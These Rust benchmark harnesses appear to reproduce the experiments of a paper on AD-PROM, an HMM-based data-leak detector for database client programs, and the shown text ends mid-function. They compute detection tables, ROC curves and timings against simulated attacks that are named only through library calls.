        let w = if t.len() <= window {
            1
        } else {
            t.len() - window + 1
        };
        if windows + w > max_windows && !out.is_empty() {
            break;
        }
        windows += w;
        out.push(t);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sequence_count_matches_definition() {
        let mk = |n: usize| {
            (0..n)
                .map(|i| CallEvent {
                    name: format!("c{i}").into(),
                    call: adprom_lang::LibCall::Printf,
                    caller: "main".into(),
                    site: adprom_lang::CallSiteId(i as u32),
                    detail: None,
                })
                .collect::<Vec<_>>()
        };
        let traces = vec![mk(20), mk(10), mk(0)];
        assert_eq!(sequence_count(&traces, 15), (6 + 1));
    }

    #[test]
    fn cap_traces_bounds_windows() {
        let mk = |n: usize| {
            (0..n)
                .map(|i| CallEvent {
                    name: format!("c{i}").into(),
                    call: adprom_lang::LibCall::Printf,
                    caller: "main".into(),
                    site: adprom_lang::CallSiteId(i as u32),
                    detail: None,
                })
                .collect::<Vec<_>>()
        };
        let traces = vec![mk(30), mk(30), mk(30), mk(30)];
        let capped = cap_traces(traces, 15, 35);
        assert_eq!(capped.len(), 2);
    }
}
