//! §V-C text: "the averaged size of an application's profile is about
//! ~31k". Serializes the CA-dataset profiles and reports their sizes.

use adprom_bench::{ca_apps, print_table, train_app};
use adprom_core::ConstructorConfig;

fn main() {
    println!("== profile size (paper: ~31 kB average) ==");
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 10;
    let mut rows = Vec::new();
    let mut total = 0usize;
    let mut count = 0usize;
    for workload in ca_apps() {
        let trained = train_app(&workload, &config);
        let size = trained
            .profile
            .serialized_size()
            .expect("profile serializes");
        total += size;
        count += 1;
        rows.push(vec![
            workload.name.clone(),
            trained.profile.hmm.n_states().to_string(),
            trained.profile.alphabet.len().to_string(),
            format!("{:.1} kB", size as f64 / 1024.0),
        ]);
    }
    print_table(
        "serialized profile sizes",
        &["App", "states", "symbols", "profile size"],
        &rows,
    );
    println!(
        "\naverage: {:.1} kB   (paper: ~31 kB)",
        total as f64 / count as f64 / 1024.0
    );
}
