//! Table VII: confusion matrices of the four application models against
//! the A-S2 and A-S3 synthetic anomalies.
//!
//! Paper values (App1..App4): thousands of sequences, recall 0.93–1.0,
//! precision 0.92–0.96, accuracy ≥ 0.9952 — the shape to match is
//! near-perfect accuracy with a handful of FP/FN against a large TN mass.

use adprom_attacks::{a_s2, a_s3};
use adprom_bench::{cap_traces, print_table};
use adprom_core::{build_profile, Alert, Confusion, ConstructorConfig, DetectionEngine, Flag};
use adprom_obs::{AuditLog, MemoryAuditSink, Registry};
use adprom_workloads::sir;
use std::sync::Arc;

fn main() {
    println!("== Table VII: confusion matrices (A-S2 + A-S3 anomalies) ==");
    let specs = [
        sir::app1_spec(),
        sir::app2_spec(),
        sir::app3_spec(),
        sir::app4_spec(),
    ];
    let registry = Registry::new();
    let sink = Arc::new(MemoryAuditSink::new());
    let audit = Arc::new(AuditLog::new(sink.clone()));
    let mut rows = Vec::new();
    for spec in specs {
        let workload = sir::workload(&spec);
        let analysis = adprom_analysis::analyze(&workload.program);
        let mut traces = workload.collect_traces(&analysis.site_labels);
        let eval_traces = traces.split_off(traces.len() * 3 / 4);
        let traces = cap_traces(traces, 15, 4000);

        let mut config = ConstructorConfig::default();
        config.train.max_iterations = 10;
        eprintln!("[{}] training on {} traces...", spec.name, traces.len());
        let start = std::time::Instant::now();
        let (profile, _) = build_profile(&spec.name, &analysis, &traces, &config);
        eprintln!(
            "[{}] trained in {:.1}s",
            spec.name,
            start.elapsed().as_secs_f64()
        );
        let mut engine = DetectionEngine::new(&profile)
            .with_registry(&registry)
            .with_audit(audit.clone());
        engine.set_session(&spec.name);

        // Evaluation set: held-out normal windows, ~7% of which receive an
        // A-S2 or A-S3 mutation (matching the paper's anomaly counts of
        // ~90-150 against tens of thousands of normals).
        let normal_windows: Vec<Vec<String>> = eval_traces
            .iter()
            .flat_map(|t| {
                let names: Vec<String> = t.iter().map(|e| e.name.to_string()).collect();
                adprom_trace::sliding_windows(&names, config.window)
            })
            .collect();
        let mut confusion = Confusion::default();
        for (i, w) in normal_windows.iter().enumerate() {
            let (seq, anomalous) = if i % 29 == 0 {
                // Alternate the two anomaly generators.
                if i % 2 == 0 {
                    (a_s2(w, 2, 0x7AB7 ^ i as u64), true)
                } else {
                    (a_s3(w, 8, 0x7AB7 ^ i as u64), true)
                }
            } else {
                (w.clone(), false)
            };
            // Funnel every evaluated window through the engine's observe
            // hook so flag counters and the audit trail account for the
            // whole experiment (ooc tracking is off in this synthetic
            // eval — windows are name sequences, not call events).
            let ll = engine.score(&seq);
            let leak = seq.iter().any(|n| n.contains("_Q"));
            let alert = engine.observe(Alert {
                flag: Flag::classify(ll, profile.threshold, leak, false),
                log_likelihood: ll,
                threshold: profile.threshold,
                window: seq.clone(),
                detail: String::new(),
            });
            confusion.record(anomalous, alert.is_alarm());
        }
        rows.push(vec![
            spec.name.clone(),
            confusion.total().to_string(),
            confusion.tp.to_string(),
            confusion.tn.to_string(),
            confusion.fp.to_string(),
            confusion.fn_.to_string(),
            format!("{:.2}", confusion.recall()),
            format!("{:.2}", confusion.precision()),
            format!("{:.4}", confusion.accuracy()),
        ]);
    }
    print_table(
        "Confusion matrix of the programs' models",
        &[
            "App", "#seq.", "TP", "TN", "FP", "FN", "Rec.", "Prec.", "Acc.",
        ],
        &rows,
    );
    println!(
        "\npaper: Rec 0.93-1.0, Prec 0.92-0.96, Acc 0.9952-0.9999 \
         (App1 1245 seq ... App4 67626 seq)"
    );

    let snap = registry.snapshot();
    println!(
        "\nwindows scored {} (normal {}, anomalous {}, data-leak {})",
        snap.counter("detect.windows_scored").unwrap_or(0),
        snap.counter("detect.flags.normal").unwrap_or(0),
        snap.counter("detect.flags.anomalous").unwrap_or(0),
        snap.counter("detect.flags.data_leak").unwrap_or(0),
    );
    let records = sink.records();
    println!("== Alert audit trail ({} records) ==", records.len());
    for spec_name in records
        .iter()
        .map(|r| r.session.clone())
        .collect::<std::collections::BTreeSet<_>>()
    {
        let per_app: Vec<_> = records.iter().filter(|r| r.session == spec_name).collect();
        println!("-- {spec_name}: {} records", per_app.len());
        for record in per_app.iter().take(2) {
            println!("{}", record.to_jsonl());
        }
        if per_app.len() > 2 {
            println!("... ({} more)", per_app.len() - 2);
        }
    }
}
