//! Table IV: statistics about the SIR-dataset substitution. Paper values —
//! #test cases 809/214/370/1061; branch coverage 58.7–72.3%; traces
//! 34770/69866/14514/6628647. Our synthetic App1–App4 are scaled down
//! (documented in DESIGN.md) but keep the ordering: App4 is by far the
//! largest, App3 yields the fewest traces per case. SIR line/branch
//! coverage is replaced by the observable analogue, call-site coverage.

use adprom_analysis::analyze;
use adprom_bench::{print_table, sequence_count, site_coverage};
use adprom_workloads::sir;

fn main() {
    println!("== Table IV: statistics about the SIR-dataset (synthetic substitution) ==");
    let specs = [
        sir::app1_spec(),
        sir::app2_spec(),
        sir::app3_spec(),
        sir::app4_spec(),
    ];
    let mut rows = Vec::new();
    for spec in specs {
        let workload = sir::workload(&spec);
        let analysis = analyze(&workload.program);
        let traces = workload.collect_traces(&analysis.site_labels);
        rows.push(vec![
            spec.name.clone(),
            workload.test_cases.len().to_string(),
            format!("{:.1}%", 100.0 * site_coverage(&workload, &traces)),
            analysis.observation_labels().len().to_string(),
            sequence_count(&traces, 15).to_string(),
        ]);
    }
    print_table(
        "SIR-dataset (synthetic)",
        &[
            "App",
            "#Test Cases",
            "Site Coverage",
            "#states",
            "Traces (n=15 windows)",
        ],
        &rows,
    );
    println!(
        "\npaper: 809/214/370/1061 cases; 58.7/68.5/72.3/66.3% branch coverage; \
         34770/69866/14514/6628647 traces; bash reaches 1366 states"
    );
}
