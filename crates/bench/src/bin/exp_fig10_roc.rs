//! Fig. 10: FN rate (log10) vs FP rate for AD-PROM vs Rand-HMM on the four
//! SIR-scale applications.
//!
//! Setup mirrors §V-D: both models train on the same normal windows; the
//! anomalous evaluation set is A-S1 (the last 5 calls of a normal sequence
//! replaced with random legitimate calls). The expected shape: AD-PROM's
//! statically-initialized model dominates Rand-HMM at every FP rate.
//!
//! Rand-HMM uses the same hidden-state count as the (possibly clustered)
//! AD-PROM model so both arms are computationally comparable; the paper
//! leaves its baseline's state count unspecified.

use adprom_attacks::a_s1;
use adprom_bench::{cap_traces, print_table};
use adprom_core::{
    build_profile, build_rand_hmm, fn_rate_at_fp, roc_curve, ConstructorConfig, DetectionEngine,
    Profile,
};
use adprom_workloads::sir;

const FP_GRID: &[f64] = &[0.001, 0.005, 0.01, 0.02, 0.05, 0.10];

fn main() {
    println!("== Fig. 10: AD-PROM vs Rand-HMM FN rates under equal FP rates ==");
    let specs = [
        sir::app1_spec(),
        sir::app2_spec(),
        sir::app3_spec(),
        sir::app4_spec(),
    ];
    for spec in specs {
        run_app(&spec);
    }
    println!(
        "\npaper: AD-PROM outperforms Rand-HMM in all cases; FN gaps of \
         ~one order of magnitude at low FP rates"
    );
}

fn run_app(spec: &sir::SirSpec) {
    println!("\n--- {} ---", spec.name);
    let workload = sir::workload(spec);
    let analysis = adprom_analysis::analyze(&workload.program);
    let mut traces = workload.collect_traces(&analysis.site_labels);

    // Hold out 25% of the traces for evaluation.
    let eval_start = traces.len() * 3 / 4;
    let eval_traces = traces.split_off(eval_start);
    // Bound App4-scale training cost.
    let traces = cap_traces(traces, 15, 2500);

    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 6;
    println!(
        "training on {} traces, evaluating on {} held-out traces...",
        traces.len(),
        eval_traces.len()
    );
    let (adprom_profile, report) = build_profile(&spec.name, &analysis, &traces, &config);
    if report.reduced {
        println!(
            "  (clustering: {} -> {} states)",
            report.states_before, report.states_after
        );
    }
    // Rand-HMM with matched state count, random initialization.
    let (rand_profile, _) = build_rand_hmm(
        &spec.name,
        &analysis,
        &traces,
        &config,
        0xBA5E,
        Some(adprom_profile.hmm.n_states()),
    );

    // Evaluation windows.
    let normal_windows: Vec<Vec<String>> = eval_traces
        .iter()
        .flat_map(|t| {
            let names: Vec<String> = t.iter().map(|e| e.name.to_string()).collect();
            adprom_trace::sliding_windows(&names, config.window)
        })
        .collect();
    let legitimate: Vec<String> = adprom_profile
        .alphabet
        .symbols()
        .iter()
        .filter(|s| *s != adprom_core::UNKNOWN)
        .cloned()
        .collect();
    let anomalies: Vec<Vec<String>> = normal_windows
        .iter()
        .enumerate()
        .map(|(i, w)| a_s1(w, &legitimate, 0xF1610 ^ i as u64))
        .collect();

    let score_all = |profile: &Profile, windows: &[Vec<String>]| -> Vec<f64> {
        let engine = DetectionEngine::new(profile);
        windows.iter().map(|w| engine.score(w)).collect()
    };
    let ad_normal = score_all(&adprom_profile, &normal_windows);
    let ad_anom = score_all(&adprom_profile, &anomalies);
    let rd_normal = score_all(&rand_profile, &normal_windows);
    let rd_anom = score_all(&rand_profile, &anomalies);

    let ad_curve = roc_curve(&ad_normal, &ad_anom, 400);
    let rd_curve = roc_curve(&rd_normal, &rd_anom, 400);

    let mut rows = Vec::new();
    for &fp in FP_GRID {
        let ad_fn = fn_rate_at_fp(&ad_curve, fp);
        let rd_fn = fn_rate_at_fp(&rd_curve, fp);
        rows.push(vec![
            format!("{fp:.3}"),
            format!("{:.4} (log10 {:+.2})", ad_fn, log10(ad_fn)),
            format!("{:.4} (log10 {:+.2})", rd_fn, log10(rd_fn)),
        ]);
    }
    print_table(
        &format!("{}: FN rate at fixed FP rate", spec.name),
        &["FP rate", "AD-PROM FN", "Rand-HMM FN"],
        &rows,
    );
}

fn log10(v: f64) -> f64 {
    if v <= 0.0 {
        // Plotting convention for "no misses": clamp at the axis floor.
        -4.0
    } else {
        v.log10()
    }
}
