//! Tables I–II: the call transition matrices of a two-function example in
//! the spirit of the paper's Fig. 3 (a `main` that prints or queries and
//! calls `f()`, and an `f()` with one DDG-labeled print), plus the
//! aggregated pCTM and its three invariants.
//!
//! The paper's exact Fig. 3 graph is under-specified (its worked example
//! for `P_E^{r_m}` is internally inconsistent — see DESIGN.md), so this
//! harness prints our reproduction of the *same structure* with fully
//! checked arithmetic.

use adprom_analysis::{analyze, CallLabel};
use adprom_lang::parse_program;

const EXAMPLE: &str = r#"
fn main() {
    if (a) {
        printf("menu");
    } else {
        printf("prompt");
        PQexec(c, "SELECT * FROM t WHERE id = 10");
        f(1);
    }
}

fn f(n) {
    if (n > 1) {
        printf("big");
    } else {
        if (n > 0) {
            let v = PQgetvalue(r, 0, 0);
            printf("%s", v);
        }
    }
}
"#;

fn main() {
    println!("== Tables I-II: per-function CTMs and the aggregated pCTM ==");
    let prog = parse_program(EXAMPLE).expect("example parses");
    let analysis = analyze(&prog);

    for func in ["main", "f"] {
        let ctm = &analysis.ctms[func];
        println!("\nCTM of {func}():");
        print!("{}", ctm.render_table(func));
    }

    println!("\nDDG-labeled sites:");
    let mut labels: Vec<&String> = analysis
        .site_labels
        .values()
        .filter(|l| l.contains("_Q"))
        .collect();
    labels.sort();
    for l in labels {
        println!("  {l}");
    }

    println!("\npCTM (after aggregation, eqs. 4-10):");
    print!("{}", analysis.pctm.render_table("pCTM"));

    println!("\npCTM properties (§IV-C3):");
    println!(
        "  (1) entry row sum  = {:.6}",
        analysis.pctm.entry_row_sum()
    );
    println!("  (2) exit col sum   = {:.6}", analysis.pctm.exit_col_sum());
    let max_imbalance = analysis
        .pctm
        .labels()
        .iter()
        .filter(|l| !l.is_virtual())
        .map(|l| analysis.pctm.flow_imbalance(l))
        .fold(0.0f64, f64::max);
    println!("  (3) max flow imbalance over calls = {max_imbalance:.2e}");

    // The qualitative facts the paper's Tables I-II illustrate:
    let entry = CallLabel::Entry;
    let pqexec = CallLabel::Lib("PQexec".into());
    assert_eq!(
        analysis.pctm.get(&entry, &pqexec),
        0.0,
        "(ε → PQexec) must be 0: a printf always precedes the query"
    );
    println!("\ncheck: P(ε → PQexec) = 0 because printf'' sits between (paper §IV-C2)  ✓");
}
