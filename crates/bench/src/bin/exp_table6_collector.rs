//! Table VI: Calls Collector vs ltrace performance.
//!
//! Paper setup: four test cases — two performing many printing calls,
//! two executing multiple queries — timed under the AD-PROM collector
//! (names + caller only) and under ltrace (full argument formatting +
//! instruction-pointer resolution via addr2line). Paper result: the
//! collector removes 60–97% of the tracing overhead (average 78.29%),
//! with the bigger wins on print-heavy cases.

use adprom_analysis::analyze;
use adprom_bench::print_table;
use adprom_trace::{LtraceCollector, NullSink, TraceCollector};
use adprom_workloads::{hospital, supermarket, TestCase, Workload};
use std::time::Instant;

/// Times one run of a case under a sink; returns seconds (best of `reps`).
fn time_case(
    workload: &Workload,
    case: &TestCase,
    labels: &std::collections::HashMap<adprom_lang::CallSiteId, String>,
    mode: Mode,
    reps: usize,
) -> f64 {
    let mut best = f64::INFINITY;
    for _ in 0..reps {
        let start = Instant::now();
        match mode {
            Mode::Bare => {
                let mut sink = NullSink;
                workload.run_case_with_sink(case, labels, &mut sink);
            }
            Mode::Collector => {
                let mut sink = TraceCollector::new();
                workload.run_case_with_sink(case, labels, &mut sink);
                std::hint::black_box(sink.len());
            }
            Mode::Ltrace => {
                let functions: Vec<String> = workload
                    .program
                    .functions
                    .iter()
                    .map(|f| f.name.clone())
                    .collect();
                // A statically-linked binary carries a large symbol table.
                let mut sink = LtraceCollector::new(&functions, 4096);
                workload.run_case_with_sink(case, labels, &mut sink);
                std::hint::black_box(sink.records().len());
            }
        }
        best = best.min(start.elapsed().as_secs_f64());
    }
    best
}

#[derive(Clone, Copy)]
enum Mode {
    Bare,
    Collector,
    Ltrace,
}

fn main() {
    println!("== Table VI: Calls Collector vs ltrace ==");
    // Test cases 1-2: many printing calls (full listings, repeated).
    let hospital = hospital::workload(0, 0);
    let print_heavy_1 = TestCase::new(
        "tc1: repeated listings",
        std::iter::repeat_n("1".to_string(), 60)
            .chain(["0".to_string()])
            .collect(),
    );
    let print_heavy_2 = TestCase::new(
        "tc2: listings + reports",
        (0..40)
            .flat_map(|_| ["1".to_string(), "5".to_string()])
            .chain(["0".to_string()])
            .collect(),
    );
    // Test cases 3-4: multiple queries, few prints.
    let market = supermarket::workload(0, 0);
    let query_heavy_3 = TestCase::new(
        "tc3: repeated price checks",
        (0..50)
            .flat_map(|i| ["2".to_string(), (500 + i % 10).to_string()])
            .chain(["0".to_string()])
            .collect(),
    );
    let query_heavy_4 = TestCase::new(
        "tc4: restock + reprice",
        (0..40)
            .flat_map(|i| {
                [
                    "4".to_string(),
                    (500 + i % 10).to_string(),
                    "1".to_string(),
                    "7".to_string(),
                    (500 + i % 10).to_string(),
                    "9.5".to_string(),
                ]
            })
            .chain(["0".to_string()])
            .collect(),
    );

    let h_analysis = analyze(&hospital.program);
    let m_analysis = analyze(&market.program);
    let cases: Vec<(&Workload, &TestCase, &std::collections::HashMap<_, _>)> = vec![
        (&hospital, &print_heavy_1, &h_analysis.site_labels),
        (&hospital, &print_heavy_2, &h_analysis.site_labels),
        (&market, &query_heavy_3, &m_analysis.site_labels),
        (&market, &query_heavy_4, &m_analysis.site_labels),
    ];

    let reps = 7;
    let mut rows = Vec::new();
    let mut decreases = Vec::new();
    for (i, (workload, case, labels)) in cases.iter().enumerate() {
        let bare = time_case(workload, case, labels, Mode::Bare, reps);
        let collector = time_case(workload, case, labels, Mode::Collector, reps);
        let ltrace = time_case(workload, case, labels, Mode::Ltrace, reps);
        // Overhead = time added over the bare run.
        let collector_overhead = (collector - bare).max(0.0);
        let ltrace_overhead = (ltrace - bare).max(1e-12);
        let decrease = 100.0 * (1.0 - collector_overhead / ltrace_overhead);
        decreases.push(decrease);
        rows.push(vec![
            format!("{}", i + 1),
            format!("{ltrace:.6}"),
            format!("{collector:.6}"),
            format!("{decrease:.2}%"),
        ]);
    }
    print_table(
        "Calls Collector vs ltrace (seconds, best of 7)",
        &[
            "Test case",
            "ltrace",
            "Calls Collector",
            "Overhead Decrease",
        ],
        &rows,
    );
    let avg: f64 = decreases.iter().sum::<f64>() / decreases.len() as f64;
    println!("\naverage overhead decrease: {avg:.2}%   (paper: 78.29%, range 60.04-97.30%)");
}
