//! Table III: statistics about the CA-dataset (the three client
//! applications). Paper values — #states 59/139/229, DBMS
//! PostgreSQL/MySQL/MySQL, #test cases 63/73/36, #sequences
//! 3810/10286/4053. Shapes to match: App_s has the most states, App_b the
//! most sequences, the DBMS split is identical, and the test-case counts
//! are the paper's.

use adprom_analysis::analyze;
use adprom_bench::{ca_apps, print_table, sequence_count};

fn main() {
    println!("== Table III: statistics about the CA-dataset ==");
    let mut rows = Vec::new();
    for workload in ca_apps() {
        let analysis = analyze(&workload.program);
        let traces = workload.collect_traces(&analysis.site_labels);
        // "#states" = hidden states before reduction = distinct observation
        // labels (calls incl. DDG-labeled variants).
        let states = analysis.observation_labels().len();
        rows.push(vec![
            workload.name.clone(),
            states.to_string(),
            workload.dbms.to_string(),
            workload.test_cases.len().to_string(),
            sequence_count(&traces, 15).to_string(),
        ]);
    }
    print_table(
        "CA-dataset",
        &[
            "Client App",
            "#states",
            "DBMS",
            "#test cases",
            "#sequences (n=15)",
        ],
        &rows,
    );
    println!(
        "\npaper: App_h 59 states/63 cases/3810 seq (PostgreSQL), \
         App_b 139/73/10286 (MySQL), App_s 229/36/4053 (MySQL)"
    );
}
