//! Table VIII: elapsed time for the pre-training analysis steps — CFG
//! construction (incl. parsing), probability estimation and aggregation —
//! for the four SIR-scale applications.
//!
//! Paper values (seconds, Java): CFG 0.12–1.65, probabilities 0.40–7.18,
//! aggregation 46.84–237.31. Absolute numbers are incomparable (different
//! language, different front-end); the shape to match is aggregation
//! dominating and App4 costing the most in every step.

use adprom_bench::print_table;
use adprom_workloads::sir;

fn main() {
    println!("== Table VIII: elapsed time per training step ==");
    let specs = [
        sir::app1_spec(),
        sir::app2_spec(),
        sir::app3_spec(),
        sir::app4_spec(),
    ];
    let mut cfg_row = vec!["Build CFG (ms)".to_string()];
    let mut prob_row = vec!["Probabilities Est. (ms)".to_string()];
    let mut agg_row = vec!["Aggregation (ms)".to_string()];
    let mut headers = vec!["Time"];
    let mut names = Vec::new();
    for spec in specs {
        let program = sir::generate_program(&spec);
        // Best of 3 to damp scheduling noise.
        let mut best = None::<adprom_analysis::AnalysisTimings>;
        for _ in 0..3 {
            let analysis = adprom_analysis::analyze(&program);
            let t = analysis.timings;
            best = Some(match best {
                None => t,
                Some(b) => adprom_analysis::AnalysisTimings {
                    build_cfg: b.build_cfg.min(t.build_cfg),
                    probabilities: b.probabilities.min(t.probabilities),
                    aggregation: b.aggregation.min(t.aggregation),
                },
            });
        }
        let t = best.expect("three runs");
        let ms = |d: std::time::Duration| format!("{:.3}", d.as_secs_f64() * 1e3);
        cfg_row.push(ms(t.build_cfg));
        prob_row.push(ms(t.probabilities));
        agg_row.push(ms(t.aggregation));
        names.push(spec.name.clone());
    }
    for n in &names {
        headers.push(n);
    }
    print_table(
        "Elapsed time to perform training steps (best of 3)",
        &headers,
        &[cfg_row, prob_row, agg_row],
    );
    println!(
        "\npaper (seconds): CFG 0.42/0.12/0.23/1.65, probabilities \
         1.99/0.40/1.14/7.18, aggregation 58.83/46.84/53.94/237.31 — \
         aggregation dominates and App4 is the most expensive"
    );
}
