//! §V-D ablation: the CTV → PCA → k-means state reduction.
//!
//! Paper claim: running k-means with K = 0.3·n on bash reduced the hidden
//! states from 1366 to 455 and cut training time by about 70%. This
//! harness measures both arms on the App4-scale program: states
//! before/after, per-iteration Baum–Welch cost with and without reduction,
//! and the detection quality both models reach on A-S1 anomalies.

use adprom_attacks::a_s1;
use adprom_bench::{cap_traces, print_table};
use adprom_core::{fn_rate_at_fp, init_from_pctm, roc_curve, Alphabet, InitConfig};
use adprom_hmm::reestimate;
use adprom_workloads::sir;
use std::time::Instant;

fn main() {
    println!("== Ablation: CTV/PCA/k-means hidden-state reduction (App4 scale) ==");
    let spec = sir::app4_spec();
    let workload = sir::workload(&spec);
    let analysis = adprom_analysis::analyze(&workload.program);
    let mut traces = workload.collect_traces(&analysis.site_labels);
    let eval_traces = traces.split_off(traces.len() * 3 / 4);
    let traces = cap_traces(traces, 15, 700);

    // Alphabet shared by both arms.
    let mut labels = analysis.observation_labels();
    for t in &traces {
        for e in t {
            if !labels.iter().any(|l| l.as_str() == &*e.name) {
                labels.push(e.name.to_string());
            }
        }
    }
    let alphabet = Alphabet::new(labels);
    let windows: Vec<Vec<usize>> = traces
        .iter()
        .flat_map(|t| {
            let names: Vec<String> = t.iter().map(|e| e.name.to_string()).collect();
            adprom_trace::sliding_windows(&names, 15)
        })
        .map(|w| alphabet.encode_seq(&w))
        .collect();
    println!(
        "alphabet: {} symbols; training on {} windows",
        alphabet.len(),
        windows.len()
    );

    let arms = [
        ("reduced (K = 0.3 n)", InitConfig::default()),
        (
            "unreduced (one state per call)",
            InitConfig {
                reduction_threshold: usize::MAX,
                ..InitConfig::default()
            },
        ),
    ];

    let iterations = 1usize;
    let mut rows = Vec::new();
    let mut per_iter = Vec::new();
    for (name, init_config) in arms {
        let t0 = Instant::now();
        let init = init_from_pctm(&analysis.pctm, &alphabet, &init_config);
        let init_time = t0.elapsed();
        let mut hmm = init.hmm;
        let t1 = Instant::now();
        for _ in 0..iterations {
            reestimate(&mut hmm, &windows, 1e-6);
        }
        let train_time = t1.elapsed() / iterations as u32;
        per_iter.push(train_time.as_secs_f64());

        // Detection quality: FN at 1% FP on A-S1 anomalies.
        let normal: Vec<Vec<usize>> = eval_traces
            .iter()
            .take(12)
            .flat_map(|t| {
                let names: Vec<String> = t.iter().map(|e| e.name.to_string()).collect();
                adprom_trace::sliding_windows(&names, 15)
            })
            .map(|w| alphabet.encode_seq(&w))
            .collect();
        let legit: Vec<String> = alphabet
            .symbols()
            .iter()
            .filter(|s| *s != adprom_core::UNKNOWN)
            .cloned()
            .collect();
        let normal_scores: Vec<f64> = normal
            .iter()
            .map(|w| adprom_hmm::log_likelihood(&hmm, w))
            .collect();
        let anomalous_scores: Vec<f64> = normal
            .iter()
            .enumerate()
            .map(|(i, w)| {
                let names: Vec<String> =
                    w.iter().map(|&s| alphabet.decode(s).to_string()).collect();
                let mutated = a_s1(&names, &legit, 0xAB1A ^ i as u64);
                adprom_hmm::log_likelihood(&hmm, &alphabet.encode_seq(&mutated))
            })
            .collect();
        let curve = roc_curve(&normal_scores, &anomalous_scores, 300);
        let fn_at_1pct = fn_rate_at_fp(&curve, 0.01);

        rows.push(vec![
            name.to_string(),
            init.states_before.to_string(),
            hmm.n_states().to_string(),
            format!("{:.1}", init_time.as_secs_f64() * 1e3),
            format!("{:.0}", train_time.as_secs_f64() * 1e3),
            format!("{fn_at_1pct:.3}"),
        ]);
    }
    print_table(
        "state reduction ablation",
        &[
            "arm",
            "states before",
            "states after",
            "init (ms)",
            "ms / BW iteration",
            "FN @ 1% FP (A-S1)",
        ],
        &rows,
    );
    let cut = 100.0 * (1.0 - per_iter[0] / per_iter[1]);
    println!(
        "\ntraining-time reduction from clustering: {cut:.1}%   \
         (paper: ~70%, 1366 -> 455 states on bash)"
    );
}
