//! Table V: AD-PROM vs CMarkov across the five attacks of §V-C.
//!
//! Paper result: CMarkov misses attacks 1 and 3 (the raw call sequence is
//! unchanged — only block ids / data-flow labels distinguish them) and
//! cannot connect any detection to the data source; AD-PROM detects all
//! five and connects each to its source.
//!
//! The AD-PROM engine runs with the structured audit log attached: every
//! non-Normal window lands in the trail as a JSONL record tagged with the
//! attack's session id, printed after the table.

use adprom_analysis::analyze;
use adprom_attacks::{
    attack1_insert_similar_print, attack2_new_call_in_function, attack3_reuse_print,
    attack4_binary_patch,
};
use adprom_bench::print_table;
use adprom_core::{
    build_cmarkov, build_profile, strip_trace, ConstructorConfig, DetectionEngine, Flag,
};
use adprom_obs::{AuditLog, MemoryAuditSink};
use adprom_workloads::{banking, Workload};
use std::sync::Arc;

fn main() {
    println!("== Table V: AD-PROM vs CMarkov ==");
    let workload = banking::workload(60, 0x7AB1);
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let config = ConstructorConfig::default();

    println!(
        "training AD-PROM profile on App_b ({} traces)...",
        traces.len()
    );
    let (adprom_profile, _) = build_profile("App_b", &analysis, &traces, &config);
    println!("training CMarkov profile (no DDG labels, no caller tracking)...");
    let (cmarkov_profile, _) = build_cmarkov("App_b", &analysis, &traces, &config);

    let sink = Arc::new(MemoryAuditSink::new());
    let audit = Arc::new(AuditLog::new(sink.clone()));
    let mut adprom_engine = DetectionEngine::new(&adprom_profile).with_audit(audit);
    let cmarkov_engine = DetectionEngine::new(&cmarkov_profile);

    // Collect each attack's modified program (attack 5 is a malicious
    // input on the unmodified binary).
    let attacks: Vec<(&str, &str, Option<adprom_lang::Program>)> = vec![
        (
            "Attack 1 (similar print, other branch)",
            "attack-1",
            attack1_insert_similar_print(&workload.program).map(|a| a.program),
        ),
        (
            "Attack 2 (new call in other function)",
            "attack-2",
            attack2_new_call_in_function(&workload.program, "SELECT * FROM clients")
                .map(|a| a.program),
        ),
        (
            "Attack 3 (reuse existing print)",
            "attack-3",
            attack3_reuse_print(&workload.program).map(|a| a.program),
        ),
        (
            "Attack 4 (binary patch to file)",
            "attack-4",
            attack4_binary_patch(&workload.program, "SELECT * FROM clients").map(|a| a.program),
        ),
        ("Attack 5 (SQL injection input)", "attack-5", None),
    ];

    let mut rows = Vec::new();
    for (name, session, program) in attacks {
        adprom_engine.set_session(session);
        let (adprom_flag, cmarkov_flag, connected) = match program {
            Some(program) => run_attack(&workload, program, &adprom_engine, &cmarkov_engine),
            None => {
                // Attack 5: malicious input on the original binary.
                let trace = workload.run_case(&banking::injection_case(), &analysis.site_labels);
                let alerts = adprom_engine.scan(&trace);
                let a = alerts
                    .iter()
                    .map(|al| al.flag)
                    .max()
                    .unwrap_or(Flag::Normal);
                let connected = alerts
                    .iter()
                    .any(|al| al.flag == Flag::DataLeak && al.detail.contains("_Q"));
                let c = cmarkov_engine.verdict(&strip_trace(&trace));
                (a, c, connected)
            }
        };
        rows.push(vec![
            name.to_string(),
            render(cmarkov_flag, false),
            render(adprom_flag, connected),
        ]);
    }
    print_table(
        "AD-PROM vs CMarkov",
        &["Attack", "CMarkov", "AD-PROM"],
        &rows,
    );
    println!(
        "\npaper: CMarkov misses attacks 1 and 3; AD-PROM detects all five and \
         connects each to the data source"
    );

    // The structured trail behind the table: one sequence-numbered JSONL
    // record per non-Normal window, tagged with the attack session.
    let records = sink.records();
    println!("\n== Alert audit trail ({} records) ==", records.len());
    for session in ["attack-1", "attack-2", "attack-3", "attack-4", "attack-5"] {
        let per_attack: Vec<_> = records.iter().filter(|r| r.session == session).collect();
        println!("-- {session}: {} records", per_attack.len());
        for record in per_attack.iter().take(3) {
            println!("{}", record.to_jsonl());
        }
        if per_attack.len() > 3 {
            println!("... ({} more)", per_attack.len() - 3);
        }
    }
}

fn run_attack(
    workload: &Workload,
    program: adprom_lang::Program,
    adprom_engine: &DetectionEngine,
    cmarkov_engine: &DetectionEngine,
) -> (Flag, Flag, bool) {
    let attacked = Workload {
        name: workload.name.clone(),
        dbms: workload.dbms,
        program,
        make_db: banking::make_db,
        test_cases: workload.test_cases.clone(),
    };
    // Detection-time instrumentation analyzes the modified binary.
    let attacked_analysis = analyze(&attacked.program);
    let mut adprom_flag = Flag::Normal;
    let mut cmarkov_flag = Flag::Normal;
    let mut connected = false;
    for case in attacked.test_cases.iter().take(40) {
        let labeled = attacked.run_case(case, &attacked_analysis.site_labels);
        // One scan per case: it yields the verdict, the source connection,
        // and (via the attached audit log) the JSONL trail in one pass.
        let alerts = adprom_engine.scan(&labeled);
        for alert in &alerts {
            if alert.flag > adprom_flag {
                adprom_flag = alert.flag;
            }
            if !connected
                && ((alert.flag == Flag::DataLeak && alert.detail.contains("_Q"))
